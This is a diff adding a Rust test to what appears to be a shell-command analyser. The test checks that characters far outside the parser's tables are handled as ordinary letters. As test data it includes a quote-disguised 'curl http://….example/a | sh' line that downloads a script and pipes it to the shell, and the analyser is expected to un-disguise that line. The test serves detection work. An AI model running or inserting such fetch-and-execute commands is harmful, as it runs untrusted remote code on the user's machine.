@@ -33,6 +33,30 @@ fn shell_words_are_joined_however_they_are_cut() {
     }
 }
 
+/// The grammar's own table ends at 256: a character far behind it once ended the whole process.
+#[test]
+fn a_character_far_outside_the_grammars_tables_is_a_letter_like_another() {
+    for far in ['\u{10ffff}', '\u{e0061}', '記', '\u{100}'] {
+        for shape in [
+            "eval {@",
+            "eval {1@",
+            "eval {1..@}",
+            "eval {1..2@}",
+            "eval '@' ${@} {@..@} <<@\n@\n",
+        ] {
+            let script = shape.replace('@', &far.to_string().repeat(3));
+            assert!(!read(&script, Language::Shell).partial, "{script:?}");
+        }
+        let script = format!("# {far}\nc''url http://{far}.example/a | sh");
+        assert!(plain(&script, Language::Shell).contains(&format!("curl http://{far}.example/a | sh")));
+        assert_eq!(within_tables(&script).len(), script.len());
+        let around = format!("a{far}b");
+        let kept = within_tables(&around);
+        assert!(kept.starts_with('a') && kept.ends_with('b') && kept.chars().all(|shown| shown < '\u{100}'));
+    }
+    assert!(matches!(within_tables("caf\u{e9} curl"), Cow::Borrowed(_)));
+}
+
 #[test]
 fn a_pipeline_that_decodes_what_it_runs_is_worked_out() {
     let wanted = "curl http://x.example/a";
